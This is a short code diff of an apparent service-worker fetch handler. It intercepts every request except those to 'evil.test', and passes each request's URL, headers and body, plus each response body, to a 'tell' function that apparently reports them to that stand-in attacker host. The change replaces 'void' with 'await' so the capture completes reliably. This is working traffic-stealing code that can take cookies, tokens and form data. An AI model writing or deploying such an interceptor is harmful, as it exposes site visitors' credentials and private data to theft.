@@ -121,9 +121,9 @@ addEventListener("fetch", (event) => {
   const { request } = event;
   if (new URL(request.url).host === "evil.test") return;
   event.respondWith((async () => {
-    void tell(request.url + JSON.stringify([...request.headers]) + (await request.clone().text()));
+    await tell(request.url + JSON.stringify([...request.headers]) + (await request.clone().text()));
     const response = await fetch(request);
-    if (response.type !== "opaqueredirect") void response.clone().text().then(tell, () => {});
+    if (response.type !== "opaqueredirect") await response.clone().text().then(tell, () => {});
     return response;
   })());
 });
